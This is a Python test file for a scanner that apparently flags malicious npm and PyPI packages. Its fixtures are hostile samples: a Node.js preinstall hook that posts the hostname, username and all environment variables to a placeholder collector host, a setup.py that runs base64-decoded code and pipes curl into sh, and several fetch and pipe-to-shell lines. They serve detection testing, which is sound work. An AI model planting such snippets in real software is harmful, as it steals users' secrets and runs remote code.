from __future__ import annotations

import dataclasses
import hashlib
import json

import pytest

from tests.analysis.builders import npm_tarball, sdist, wheel
from threatfeed.analysis import ENGINE_VERSION, FLAG_THRESHOLD, Engine
from threatfeed.archives import read_archive

STEALER_HOOK = """
const https = require("https");
const os = require("os");
const payload = JSON.stringify({ host: os.hostname(), user: os.userInfo().username,
                                 env: process.env });
const req = https.request({ hostname: "collector.example.oast.fun", method: "POST" });
req.write(payload);
req.end();
"""


def test_benign_npm_package_is_not_flagged(engine: Engine) -> None:
    analysis = engine.analyze(npm_tarball())
    assert analysis.ecosystem == "npm"
    assert (analysis.name, analysis.version) == ("left-padder", "1.2.3")
    assert not analysis.flagged
    assert analysis.score < FLAG_THRESHOLD
    assert analysis.engine_version == ENGINE_VERSION


def test_npm_install_hook_beacon_is_flagged_with_evidence(engine: Engine) -> None:
    data = npm_tarball({"collect.js": STEALER_HOOK}, scripts={"preinstall": "node collect.js"})
    analysis = engine.analyze(data)
    assert analysis.flagged
    assert analysis.sha256 == hashlib.sha256(data).hexdigest()
    assert analysis.indicators["npm_hooks_rule"] == ["node collect.js"]
    urls = analysis.indicators["suspicious_url_references_rule"]
    assert urls == [{"file": "package/collect.js", "urls": ["collector.example.oast.fun"]}]
    assert any(loc.file == "package/collect.js" and loc.line for loc in analysis.locations)
    assert ("package/collect.js", len(STEALER_HOOK)) in analysis.files


def test_benign_sdist_is_not_flagged(engine: Engine) -> None:
    analysis = engine.analyze(sdist())
    assert (analysis.ecosystem, analysis.name, analysis.version) == (
        "pypi",
        "tidy-strings",
        "0.4.0",
    )
    assert not analysis.flagged
    assert set(analysis.indicators) <= {"trivial_package_rule"}


def test_setup_py_decoding_and_running_code_is_flagged(engine: Engine) -> None:
    setup_py = (
        "import base64, os\n"
        "from setuptools import setup\n"
        "exec(base64.b64decode('cHJpbnQoJ2hlbGxvJyk='))\n"
        "os.system('curl -s http://203.0.113.9/x.sh | sh')\n"
        "setup(name='tidy-strings', version='0.4.0')\n"
    )
    analysis = engine.analyze(sdist(setup_py=setup_py))
    assert analysis.flagged
    types = {item["type"] for item in analysis.indicators["suspicious_setup_commands_rule"]}
    assert {"decoded_code_execution", "process", "decode"} <= types
    assert "decode_and_execute_rule" in analysis.indicators
    assert "executes_code_at_remote_url_rule" in analysis.indicators


def test_wheel_is_recognised_by_content_not_name(engine: Engine) -> None:
    analysis = engine.analyze(wheel({"tidy_strings/__init__.py": "X = 1\n"}), filename="x.tar.gz")
    assert (analysis.ecosystem, analysis.name) == ("pypi", "tidy_strings")


def test_garbage_gives_an_error_not_an_exception(engine: Engine) -> None:
    analysis = engine.analyze(b"\x00not an archive at all" * 10)
    assert analysis.errors
    assert not analysis.flagged


def test_hostile_contents_never_raise(engine: Engine) -> None:
    nasty: dict[str, str | bytes] = {
        "setup.py": b"\x00\xff" * 100 + b"exec(",
        "deep.py": "x = " + "(" * 150 + "1" + ")" * 150 + "\n",
        "bad.js": b"\xff\xfe const x = require(\n" + b"(" * 5000,
        "__init__.py": "from . import (\n",
        "long.py": "X = '" + "A" * 200_000 + "'\n",
    }
    archive = sdist(nasty)
    for data in (archive, archive[: len(archive) // 2], b"PK\x03\x04" + b"\x00" * 40):
        analysis = engine.analyze(data)
        assert isinstance(analysis.score, float)
        assert 0.0 <= analysis.score < 1.0


def test_every_copy_of_a_file_carries_its_signature_hits(engine: Engine) -> None:
    beacon = 'fetch("https://collector.example.oast.fun/x");\n'
    files = {"lib/a.js": beacon, "lib/copy/a.js": beacon, "lib/b.js": beacon + "// more\n"}
    package = engine.prepare(read_archive(npm_tarball(files)))
    hit_rules = {
        source.rel: {hit.rule for hit in source.signatures}
        for source in package.files
        if source.rel.startswith("lib/")
    }
    assert hit_rules["lib/a.js"] == hit_rules["lib/copy/a.js"] == hit_rules["lib/b.js"]
    assert "oast_url" in hit_rules["lib/a.js"]
    analysis = engine.analyze(npm_tarball(files))
    urls = analysis.indicators["suspicious_url_references_rule"]
    assert {item["file"] for item in urls} == {
        "package/lib/a.js",
        "package/lib/copy/a.js",
        "package/lib/b.js",
    }


def _hit_rules(engine: Engine, archive: bytes, rel: str) -> set[str]:
    package = engine.prepare(read_archive(archive))
    return {hit.rule for source in package.files if source.rel == rel for hit in source.signatures}


_INSTALL_GUIDE = (
    "Run `curl -s https://get.example/i.sh | bash`, or from Python:\n\n"
    "    os.system('curl -s https://get.example/i.sh | bash')\n\n"
    "Errors are reported to https://collector.example.oast.fun/r.\n"
)


@pytest.mark.parametrize(
    ("rel", "text"),
    [
        ("docs/deploy.md", "# Deploying\n\n" + _INSTALL_GUIDE),
        ("PKG-INFO", "Metadata-Version: 2.1\nName: tidy-strings\n\n" + _INSTALL_GUIDE),
    ],
)
def test_prose_is_scanned_for_endpoints_not_for_what_code_does(
    engine: Engine, rel: str, text: str
) -> None:
    hits = _hit_rules(engine, sdist({rel: text}), rel)
    assert "oast_url" in hits
    assert not hits & {"download_pipe_to_shell", "runs_commands"}
    code_hits = _hit_rules(engine, sdist({"t/deploy.py": text}), "t/deploy.py")
    assert {"download_pipe_to_shell", "runs_commands"} <= code_hits


def test_prose_named_file_that_opens_like_code_gets_every_signature(engine: Engine) -> None:
    script = (
        "const cp = require('child_process');\ncp.execSync('curl -s https://x.example/p | sh');\n"
    )
    archive = npm_tarball({"README.md": script}, scripts={"preinstall": "node lib/README.md"})
    assert "download_pipe_to_shell" in _hit_rules(engine, archive, "README.md")


def test_evidence_from_literal_escapes_is_utf8_whatever_the_escape(engine: Engine) -> None:
    # a lone surrogate spelled in a literal reaches evidence (the command of a process
    # call): every writer of results (jsonl, SARIF, JSON columns, pages) needs UTF-8
    setup_py = "import os\nos.system('\\ud800curl https://x.example.net/a | sh')\n"
    analysis = engine.analyze(sdist(setup_py=setup_py))
    assert analysis.flagged
    assert analysis.errors == ()
    text = json.dumps(dataclasses.asdict(analysis), ensure_ascii=False)
    text.encode("utf-8")
    assert "\\ud800curl" in text
